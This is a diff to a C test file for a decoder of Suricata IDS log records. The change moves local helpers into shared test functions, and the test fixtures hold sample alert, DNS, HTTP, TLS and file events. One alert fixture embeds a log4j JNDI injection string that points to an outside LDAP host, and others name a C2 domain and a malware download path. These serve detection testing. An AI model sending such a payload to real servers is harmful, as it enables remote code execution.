@@ -4,53 +4,6 @@
 #include "vg_test.h"
 #include "logfmt.h"
 
-static struct vg_event *
-decode(const char *line)
-{
-	static struct vg_event ev;
-	static struct vg_logsrc ls;
-
-	vg_logsrc_init(&ls, "eve.json");
-	vg_event_reset(&ev);
-	(void)vg_logfmt_decode(&ls, vg_str_make(line, strlen(line)), &ev);
-	return &ev;
-}
-
-static const char *
-ip(const struct vg_addr *a)
-{
-	static char buf[VG_ADDR_STRLEN];
-
-	if (a->af == VG_AF_NONE)
-		return "";
-	vg_addr_format(a, buf);
-	return buf;
-}
-
-static const char *
-ts(int64_t t)
-{
-	static char buf[VG_TIME_STRLEN];
-
-	vg_time_format(t, buf);
-	return buf;
-}
-
-static const char *
-extra(const struct vg_event *ev, const char *name)
-{
-	static char buf[512];
-	unsigned i;
-
-	for (i = 0; i < ev->ev_nextra; i++)
-		if (strcmp(ev->ev_extra[i].ex_name, name) == 0) {
-			vg_str_copy(ev->ev_extra[i].ex_value, buf,
-			    sizeof(buf));
-			return buf;
-		}
-	return "";
-}
-
 static bool
 has_obs(const struct vg_event *ev, enum vg_obs_kind kind, const char *text)
 {
@@ -73,31 +26,32 @@ has_obs(const struct vg_event *ev, enum vg_obs_kind kind, const char *text)
 
 VG_TEST(logfmt_suricata_alert)
 {
-	struct vg_event *ev = decode("{\"timestamp\":\"2023-03-01T08:15:22."
-	    "412318+0100\",\"flow_id\":1130426457093187,\"in_iface\":\"ens18\","
-	    "\"event_type\":\"alert\",\"src_ip\":\"45.155.205.233\","
+	struct vg_event *ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:"
+	    "15:22.412318+0100\",\"flow_id\":1130426457093187,\"in_iface\":"
+	    "\"ens18\",\"event_type\":\"alert\",\"src_ip\":\"45.155.205.233\","
 	    "\"src_port\":51634,\"dest_ip\":\"193.200.130.243\",\"dest_port\":"
 	    "80,\"proto\":\"TCP\",\"alert\":{\"action\":\"allowed\",\"gid\":1,"
 	    "\"signature_id\":2034647,\"rev\":2,\"signature\":\"ET EXPLOIT "
-	    "Apache log4j RCE Attempt\",\"category\":\"Attempted "
-	    "Administrator Privilege Gain\",\"severity\":1},\"http\":{"
-	    "\"hostname\":\"www.victim.example\",\"url\":\"/?x=${jndi:ldap://"
-	    "45.155.205.233:12344/a}\",\"http_method\":\"GET\",\"length\":0}}");
+	    "Apache log4j RCE Attempt\",\"category\":\"Attempted Administrator "
+	    "Privilege Gain\",\"severity\":1},\"http\":{\"hostname\":"
+	    "\"www.victim.example\",\"url\":\"/?x=${jndi:ldap://45.155.205.233:"
+	    "12344/a}\",\"http_method\":\"GET\",\"length\":0}}");
 
 	ASSERT_STR_EQ(ev->ev_dataset, "suricata");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_IDS_ALERT);
-	ASSERT_STR_EQ(ts(ev->ev_time), "2023-03-01T07:15:22.412318Z");
+	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2023-03-01T07:15:22.412318Z");
 	ASSERT_VIEW_EQ(ev->ev_severity, "1");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "45.155.205.233");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "45.155.205.233");
 	ASSERT_INT_EQ(ev->ev_src_port, 51634);
-	ASSERT_STR_EQ(ip(&ev->ev_dst), "193.200.130.243");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_dst), "193.200.130.243");
 	ASSERT_INT_EQ(ev->ev_dst_port, 80);
-	ASSERT_STR_EQ(extra(ev, "suricata.signature"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.signature"),
 	    "ET EXPLOIT Apache log4j RCE Attempt");
-	ASSERT_STR_EQ(extra(ev, "suricata.signature_id"), "2034647");
-	ASSERT_STR_EQ(extra(ev, "suricata.category"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.signature_id"), "2034647");
+	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.category"),
 	    "Attempted Administrator Privilege Gain");
-	ASSERT_STR_EQ(extra(ev, "suricata.flow_id"), "1130426457093187");
+	ASSERT_STR_EQ(vg_test_extra(ev, "suricata.flow_id"),
+	    "1130426457093187");
 	/* The alert's flow names its URL; "://" in the query is no scheme. */
 	ASSERT_VIEW_EQ(ev->ev_url, "http://www.victim.example/?x=${jndi:"
 	    "ldap://45.155.205.233:12344/a}");
@@ -110,77 +64,79 @@ VG_TEST(logfmt_suricata_dns)
 	struct vg_event *ev;
 
 	/* v1 query record. */
-	ev = decode("{\"timestamp\":\"2023-03-01T08:17:10.528811+0000\","
-	    "\"event_type\":\"dns\",\"src_ip\":\"10.1.1.23\",\"src_port\":"
-	    "53122,\"dest_ip\":\"10.1.1.1\",\"dest_port\":53,\"proto\":\"UDP\","
-	    "\"dns\":{\"type\":\"query\",\"id\":1,\"rrname\":"
+	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:"
+	    "10.528811+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.1.1.23\","
+	    "\"src_port\":53122,\"dest_ip\":\"10.1.1.1\",\"dest_port\":53,"
+	    "\"proto\":\"UDP\",\"dns\":{\"type\":\"query\",\"id\":1,\"rrname\":"
 	    "\"c2.badhost.example\",\"rrtype\":\"A\",\"tx_id\":0}}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_DNS_QUERY);
 	ASSERT_VIEW_EQ(ev->ev_domain, "c2.badhost.example");
-	ASSERT_STR_EQ(extra(ev, "dns.question.type"), "A");
+	ASSERT_STR_EQ(vg_test_extra(ev, "dns.question.type"), "A");
 	/* v2 answer: the resolved address is an observable. */
-	ev = decode("{\"timestamp\":\"2023-03-01T08:17:10.531904+0000\","
-	    "\"event_type\":\"dns\",\"src_ip\":\"10.1.1.1\",\"dest_ip\":"
-	    "\"10.1.1.23\",\"dns\":{\"version\":2,\"type\":\"answer\","
-	    "\"rrname\":\"c2.badhost.example\",\"rcode\":\"NOERROR\","
-	    "\"answers\":[{\"rrname\":\"c2.badhost.example\",\"rrtype\":\"A\","
-	    "\"ttl\":60,\"rdata\":\"203.0.113.45\"}]}}");
+	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:"
+	    "10.531904+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.1.1.1\","
+	    "\"dest_ip\":\"10.1.1.23\",\"dns\":{\"version\":2,\"type\":"
+	    "\"answer\",\"rrname\":\"c2.badhost.example\",\"rcode\":"
+	    "\"NOERROR\",\"answers\":[{\"rrname\":\"c2.badhost.example\","
+	    "\"rrtype\":\"A\",\"ttl\":60,\"rdata\":\"203.0.113.45\"}]}}");
 	ASSERT_VIEW_EQ(ev->ev_domain, "c2.badhost.example");
-	ASSERT_STR_EQ(extra(ev, "dns.response_code"), "NOERROR");
+	ASSERT_STR_EQ(vg_test_extra(ev, "dns.response_code"), "NOERROR");
 	ASSERT_TRUE(has_obs(ev, VG_OBS_IP, "203.0.113.45"));
 	/* v2 grouped only. */
-	ev = decode("{\"timestamp\":\"2023-03-01T08:17:10Z\",\"event_type\":"
-	    "\"dns\",\"dns\":{\"version\":2,\"type\":\"answer\",\"rrname\":"
-	    "\"x.example\",\"grouped\":{\"AAAA\":[\"2001:db8::53\"]}}}");
+	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T08:17:10Z\","
+	    "\"event_type\":\"dns\",\"dns\":{\"version\":2,\"type\":\"answer\","
+	    "\"rrname\":\"x.example\",\"grouped\":{\"AAAA\":[\"2001:db8::"
+	    "53\"]}}}");
 	ASSERT_TRUE(has_obs(ev, VG_OBS_IP, "2001:db8::53"));
 	/* v3: queries[]. */
-	ev = decode("{\"timestamp\":\"2024-05-12T22:01:44.1+0000\","
+	ev = vg_test_decode("{\"timestamp\":\"2024-05-12T22:01:44.1+0000\","
 	    "\"event_type\":\"dns\",\"dns\":{\"version\":3,\"type\":"
 	    "\"request\",\"queries\":[{\"rrname\":\"update.example.net\","
 	    "\"rrtype\":\"AAAA\"}]}}");
 	ASSERT_VIEW_EQ(ev->ev_domain, "update.example.net");
-	ASSERT_STR_EQ(extra(ev, "dns.question.type"), "AAAA");
+	ASSERT_STR_EQ(vg_test_extra(ev, "dns.question.type"), "AAAA");
 }
 
 VG_TEST(logfmt_suricata_http_tls_files)
 {
 	struct vg_event *ev;
 
-	ev = decode("{\"timestamp\":\"2023-03-01T09:02:11.774212+0000\","
-	    "\"event_type\":\"http\",\"src_ip\":\"10.1.1.23\",\"src_port\":"
-	    "49712,\"dest_ip\":\"198.51.100.80\",\"dest_port\":8080,\"http\":"
-	    "{\"hostname\":\"dl.badhost.example\",\"url\":\"/bins/mozi.m\","
-	    "\"http_user_agent\":\"Wget/1.21\",\"http_method\":\"GET\","
-	    "\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":307960}}");
+	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T09:02:"
+	    "11.774212+0000\",\"event_type\":\"http\",\"src_ip\":\"10.1.1.23\","
+	    "\"src_port\":49712,\"dest_ip\":\"198.51.100.80\",\"dest_port\":"
+	    "8080,\"http\":{\"hostname\":\"dl.badhost.example\",\"url\":\"/"
+	    "bins/mozi.m\",\"http_user_agent\":\"Wget/1.21\",\"http_method\":"
+	    "\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":"
+	    "307960}}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
 	ASSERT_VIEW_EQ(ev->ev_url,
 	    "http://dl.badhost.example:8080/bins/mozi.m");
 	ASSERT_INT_EQ(ev->ev_http_status, 200);
 	ASSERT_INT_EQ(ev->ev_bytes, 307960);
-	ASSERT_STR_EQ(extra(ev, "user_agent.original"), "Wget/1.21");
+	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "Wget/1.21");
 	/* TLS: the SNI is the name looked up. */
-	ev = decode("{\"timestamp\":\"2023-02-28T11:56:00.038810+0000\","
-	    "\"event_type\":\"tls\",\"src_ip\":\"2001:db8::1\",\"dest_ip\":"
-	    "\"2001:db8::2\",\"dest_port\":443,\"tls\":{\"sni\":"
-	    "\"cv.mathming.ltd\",\"version\":\"TLS 1.2\",\"ja3\":{\"hash\":"
-	    "\"89b4e5027ea91ece75eb2821b79de0e0\"}}}");
+	ev = vg_test_decode("{\"timestamp\":\"2023-02-28T11:56:"
+	    "00.038810+0000\",\"event_type\":\"tls\",\"src_ip\":\"2001:db8::"
+	    "1\",\"dest_ip\":\"2001:db8::2\",\"dest_port\":443,\"tls\":"
+	    "{\"sni\":\"cv.mathming.ltd\",\"version\":\"TLS 1.2\",\"ja3\":"
+	    "{\"hash\":\"89b4e5027ea91ece75eb2821b79de0e0\"}}}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_TLS);
 	ASSERT_VIEW_EQ(ev->ev_domain, "cv.mathming.ltd");
-	ASSERT_STR_EQ(extra(ev, "tls.server_name"), "cv.mathming.ltd");
-	ASSERT_STR_EQ(extra(ev, "tls.client.ja3"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "tls.server_name"), "cv.mathming.ltd");
+	ASSERT_STR_EQ(vg_test_extra(ev, "tls.client.ja3"),
 	    "89b4e5027ea91ece75eb2821b79de0e0");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::1");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::1");
 	/* fileinfo: sha256 in the slot, md5 as an observable. */
-	ev = decode("{\"timestamp\":\"2023-03-01T09:02:12Z\",\"event_type\":"
-	    "\"fileinfo\",\"fileinfo\":{\"filename\":\"/x\",\"md5\":"
-	    "\"0b2b6b9a3b0e6cf0f9e6a1c5f5d2a3e4\",\"sha256\":\"9e2b8c7d6a5f4e3d"
-	    "2c1b0a99887766554433221100ffeeddccbbaa9988776655\",\"size\":7}}");
+	ev = vg_test_decode("{\"timestamp\":\"2023-03-01T09:02:12Z\",\"event_ty"
+	    "pe\":\"fileinfo\",\"fileinfo\":{\"filename\":\"/x\",\"md5\":\"0b2b"
+	    "6b9a3b0e6cf0f9e6a1c5f5d2a3e4\",\"sha256\":\"9e2b8c7d6a5f4e3d2c1b0a"
+	    "99887766554433221100ffeeddccbbaa9988776655\",\"size\":7}}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_FILE_TRANSFER);
 	ASSERT_VIEW_EQ(ev->ev_hash, "9e2b8c7d6a5f4e3d2c1b0a99887766554433221100"
 	    "ffeeddccbbaa9988776655");
 	ASSERT_TRUE(has_obs(ev, VG_OBS_HASH,
 	    "0b2b6b9a3b0e6cf0f9e6a1c5f5d2a3e4"));
-	ASSERT_STR_EQ(extra(ev, "file.size"), "7");
+	ASSERT_STR_EQ(vg_test_extra(ev, "file.size"), "7");
 }
 
 VG_TEST(logfmt_suricata_malformed)
@@ -212,16 +168,17 @@ VG_TEST(logfmt_suricata_malformed)
 		ASSERT_TRUE(memcmp(&ev, &copy, sizeof(ev)) == 0);
 	}
 	/* A NUL escape inside a string is legal JSON and kept. */
-	ASSERT_STR_EQ(decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
+	ASSERT_STR_EQ(vg_test_decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
 	    "\"event_type\":\"alert\",\"src_ip\":\"192.0.2.1\",\"alert\":{"
 	    "\"signature\":\"a\\u0000b\",\"severity\":3}}")->ev_dataset,
 	    "suricata");
-	ASSERT_INT_EQ(decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
+	ASSERT_INT_EQ(vg_test_decode("{\"timestamp\":\"2023-03-01T09:08:00Z\","
 	    "\"event_type\":\"alert\",\"alert\":{\"signature\":\"a\\u0000b\"}}"
 	    )->ev_extra[1].ex_value.len, 3);
 	/* Bad addresses and ports are left unset, not guessed. */
-	ASSERT_INT_EQ(decode("{\"timestamp\":\"x\",\"event_type\":\"flow\","
-	    "\"src_ip\":\"999.1.1.1\",\"src_port\":70000}")->ev_src_port, -1);
+	ASSERT_INT_EQ(vg_test_decode("{\"timestamp\":\"x\",\"event_type\":"
+	    "\"flow\",\"src_ip\":\"999.1.1.1\",\"src_port\":"
+	    "70000}")->ev_src_port, -1);
 }
 
 /*
